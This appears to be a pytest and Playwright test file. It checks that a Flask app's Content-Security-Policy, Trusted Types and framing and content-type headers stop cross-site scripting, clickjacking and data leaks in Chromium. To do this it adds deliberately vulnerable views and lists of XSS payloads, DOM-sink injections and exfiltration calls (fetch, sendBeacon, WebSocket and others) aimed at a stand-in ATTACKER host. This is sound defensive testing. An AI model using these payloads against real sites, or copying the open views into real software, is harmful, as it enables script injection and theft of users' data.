"""Mitigations 3 and 6 in Chromium: an app with holes in its views, which the policy and the headers must cover.

Each attack is shown to work first where that takes one line: a test of nothing would pass as well.
"""

from __future__ import annotations

from collections.abc import Callable
from contextlib import suppress
from functools import partial
from pathlib import Path
from urllib.parse import urlencode

import pytest
from flask import Flask, Response, request
from playwright.sync_api import Error, Page

from app.visitors import public
from tests.attacker import Site
from tests.browser.conftest import reports

Serve = Callable[..., str]


@pytest.fixture
def serve_holes(serve_views: Callable[..., str]) -> Serve:
    """The app with views that do all that they must not."""
    return partial(serve_views, punch_holes)


def punch_holes(app: Flask) -> None:
    nonce = app.jinja_env.globals["csp_nonce"]
    assert callable(nonce)

    @app.get("/tested-reflect")
    @public
    def reflect() -> str:
        """Stored or reflected XSS: markup goes out as it came in."""
        return f"<!DOCTYPE html><title>x</title><p id=secret>secret</p>{request.args['html']}"

    @app.get("/tested-sink")
    @public
    def sink() -> str:
        """DOM XSS: the app's own script hands a string to a sink, or was talked into sending data away."""
        script = f"try {{ {request.args['js']} }} catch (error) {{}}"
        return f"<!DOCTYPE html><title>x</title><body><script nonce={nonce()}>{script}</script>"

    @app.get("/tested-typed")
    @public
    def typed() -> Response:
        response = Response(request.args["body"], content_type=request.args["type"])
        if not request.args["type"]:
            del response.headers["Content-Type"]
        return response


def url(base: str, path: str, **query: str) -> str:
    return f"{base}{path}?{urlencode(query)}"


def settle(page: Page) -> None:
    """Long enough for a script to run and for a request to reach the attacker, who is on this machine."""
    page.wait_for_timeout(300)


def is_owned(page: Page) -> bool:
    return bool(page.evaluate("window.owned === 1"))


MARKUP = {
    "inline script": "<script>owned=1</script>",
    "event handler": "<img src=x onerror=owned=1>",
    "svg handler": "<svg onload=owned=1></svg>",
    "svg script": "<svg><script>owned=1</script></svg>",
    "javascript link": "<a class=click href='javascript:void(owned=1)'>x</a>",
    "javascript form": "<form action='javascript:void(owned=1)'><button class=click>x</button></form>",
    "javascript frame": "<iframe src='javascript:parent.owned=1'></iframe>",
    "srcdoc": "<iframe srcdoc='<script>parent.owned=1</script>'></iframe>",
    "data script": "<script src='data:text/javascript,owned=1'></script>",
    "foreign script": "<script src='ATTACKER'></script>",
    "own script without a nonce": "<script src='/tested-typed?type=text/javascript&body=owned=1'></script>",
    "guessed nonce": "<script nonce=AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA>owned=1</script>",
    "object": "<object data='data:text/html,<script>parent.owned=1</script>'></object>",
    "embed": "<embed src='/tested-typed?type=text/html&body=<script>parent.owned=1</script>'>",
    "module": "<script type=module>owned=1</script>",
    "base": "<base href='ATTACKER'><img src=relative>",
}


def test_3_T1_injected_markup_does_not_run_and_is_reported(
    serve_holes: Serve, page: Page, attacker: Site, tmp_path: Path
) -> None:
    base, target, told = serve_holes(debug=True), attacker.page("owned=1"), 0
    for attack, markup in MARKUP.items():
        page.goto(url(base, "/tested-reflect", html=markup.replace("ATTACKER", target)))
        page.eval_on_selector_all(".click", "found => found.forEach(element => element.click())")
        settle(page)
        assert not is_owned(page), attack
        assert page.evaluate("document.baseURI").startswith(base), attack
        assert attacker.requests == [], attack
        before, told = told, len(reports(tmp_path, told))
        assert told > before, attack


ONERROR = "'<img src=x onerror=owned=1>'"
SCRIPT = "s = document.createElement('script'); document.body.append(s); "
SINKS = {
    "innerHTML": f"document.body.innerHTML = {ONERROR}",
    "outerHTML": f"document.body.outerHTML = {ONERROR}",
    "insertAdjacentHTML": f"document.body.insertAdjacentHTML('beforeend', {ONERROR})",
    "document.write": "document.write('<script>owned=1</' + 'script>')",
    "srcdoc": f"f = document.createElement('iframe'); document.body.append(f); f.srcdoc = {ONERROR}",
    "eval": "eval('owned=1')",
    "Function": "new Function('owned=1')()",
    "setTimeout": "setTimeout('owned=1')",
    "script text": f"{SCRIPT} s.text = 'owned=1'",
    "script src": f"{SCRIPT} s.src = '/tested-typed?type=text/javascript&body=owned=1'",
    "javascript location": "location = 'javascript:void(owned=1)'",
    "policy of its own": (
        "p = trustedTypes.createPolicy('x', {createHTML: text => text});"
        f"document.body.innerHTML = p.createHTML({ONERROR})"
    ),
}


def test_3_T1_a_dom_sink_takes_no_string_and_is_reported(serve_holes: Serve, page: Page, tmp_path: Path) -> None:
    base, told = serve_holes(debug=True), 0
    for sink, script in SINKS.items():
        page.goto(url(base, "/tested-sink", js=script))
        settle(page)
        assert not is_owned(page), sink
        before, told = told, len(reports(tmp_path, told))
        assert told > before, sink


# Not among them, since no policy with 'strict-dynamic' stops it: <link rel=prefetch>, and navigation.
LEAKS = {
    "img": "<img src='ATTACKER?secret'>",
    "dangling img": "<img src='ATTACKER?",
    "form": "<form method=post action='ATTACKER'><input name=a value=secret><button class=click>x</button></form>",
    "button": "<form><button class=click formaction='ATTACKER'>x</button></form>",
    "style": "<style>p { background: url(ATTACKER) }</style>",
    "style attribute": "<p style='background: url(ATTACKER)'>x</p>",
    "import": "<style>@import 'ATTACKER';</style>",
    "stylesheet": "<link rel=stylesheet href='ATTACKER'>",
    "preload": "<link rel=preload as=image href='ATTACKER'>",
    "icon": "<link rel=icon href='ATTACKER'>",
    "manifest": "<link rel=manifest href='ATTACKER'>",
    "frame": "<iframe src='ATTACKER'></iframe>",
    "object": "<object data='ATTACKER'></object>",
    "embed": "<embed src='ATTACKER'>",
    "video": "<video src='ATTACKER' poster='ATTACKER'></video>",
    "audio": "<audio src='ATTACKER' autoplay></audio>",
    "svg image": "<svg><image href='ATTACKER'/></svg>",
    "svg use": "<svg><use href='ATTACKER#x'/></svg>",
    "ping": "<a class=click href='#' ping='ATTACKER'>x</a>",
}
SENDERS = {
    "fetch": "fetch('ATTACKER', {method: 'POST', body: 'secret', mode: 'no-cors'})",
    "beacon": "navigator.sendBeacon('ATTACKER', 'secret')",
    "xhr": "x = new XMLHttpRequest(); x.open('GET', 'ATTACKER'); x.send()",
    "image": "new Image().src = 'ATTACKER'",
    "event source": "new EventSource('ATTACKER')",
    "web socket": "new WebSocket('ATTACKER'.replace('https', 'wss'))",
    "font": "new FontFace('x', 'url(ATTACKER)').load()",
    "worker": "new Worker('ATTACKER')",
}


def test_3_T2_injected_markup_sends_nothing_away(serve_holes: Serve, page: Page, attacker: Site) -> None:
    base, target = serve_holes(), attacker.page("x")
    for leak, markup in LEAKS.items():
        page.goto(url(base, "/tested-reflect", html=markup.replace("ATTACKER", target)))
        page.eval_on_selector_all(".click", "found => found.forEach(element => element.click())")
        settle(page)
        assert attacker.requests == [], leak


def test_3_T2_a_script_that_was_taken_over_sends_nothing_away(serve_holes: Serve, page: Page, attacker: Site) -> None:
    base, target = serve_holes(), attacker.page("x")
    for sender, script in SENDERS.items():
        page.goto(url(base, "/tested-sink", js=script.replace("ATTACKER", target)))
        settle(page)
        assert attacker.requests == [], sender


def framed_text(page: Page, attacker: Site, target: str) -> str:
    """What a visitor of the attacker's page sees of ours inside a frame."""
    page.goto(attacker.page(f"<iframe src='{target}' width=800 height=600></iframe>"))
    settle(page)
    assert len(page.frames) == 2
    try:
        return page.frames[1].inner_text("body", timeout=1000)
    except Error:
        return ""


@pytest.mark.parametrize("without", [(), ("X-Frame-Options",), ("Content-Security-Policy",)])
def test_3_T3_and_6_T1_a_frame_stays_empty_with_either_lock_alone(
    serve_holes: Serve, page: Page, attacker: Site, without: tuple[str, ...]
) -> None:
    base = serve_holes(without=without)
    for target in (f"{base}/", f"{base}/nothing", url(base, "/tested-reflect", html="x")):
        text = framed_text(page, attacker, target)
        assert "Back to the home page" not in text
        assert "secret" not in text
        assert "mitigation" not in text.lower()


def test_6_T1_without_both_locks_the_frame_would_show_the_page(serve_holes: Serve, page: Page, attacker: Site) -> None:
    locks = (
        "X-Frame-Options",
        "Content-Security-Policy",
        "Cross-Origin-Resource-Policy",
        "Cross-Origin-Embedder-Policy",
    )
    assert "secret" in framed_text(page, attacker, url(serve_holes(without=locks), "/tested-reflect", html="x"))


@pytest.mark.parametrize(
    ("content_type", "runs"),
    [("text/javascript", True), ("text/plain", False), ("image/png", False), ("text/csv", False)],
)
def test_6_T2_a_script_of_the_wrong_type_never_runs(
    serve_holes: Serve, page: Page, content_type: str, runs: bool
) -> None:
    base = serve_holes(without=("Content-Security-Policy",))
    source = url("", "/tested-typed", type=content_type, body="owned=1")
    page.goto(url(base, "/tested-reflect", html=f"<script src='{source}'></script>"))
    settle(page)
    assert is_owned(page) is runs


@pytest.mark.parametrize("content_type", ["text/plain", "application/octet-stream", ""])
def test_6_T2_a_file_with_markup_in_it_never_renders(serve_holes: Serve, page: Page, content_type: str) -> None:
    base = serve_holes(without=("Content-Security-Policy",))
    markup = "<!DOCTYPE html><html><script>owned=1</script><h1>rendered</h1>"
    with suppress(Error):  # Chromium may take it for a download
        page.goto(url(base, "/tested-typed", type=content_type, body=markup))
    settle(page)
    assert not is_owned(page)
    assert page.query_selector("h1") is None


def test_6_S4_no_page_may_use_a_powerful_feature(serve_holes: Serve, page: Page) -> None:
    page.goto(f"{serve_holes()}/")
    allowed = page.evaluate("document.featurePolicy.allowedFeatures()")
    powers = {"camera", "microphone", "geolocation", "display-capture", "usb", "serial", "hid", "midi", "payment"}
    powers |= {"fullscreen", "clipboard-read", "clipboard-write", "local-fonts", "publickey-credentials-get"}
    powers |= {"local-network-access", "deferred-fetch", "storage-access", "idle-detection", "window-management"}
    assert powers & set(allowed) == set()
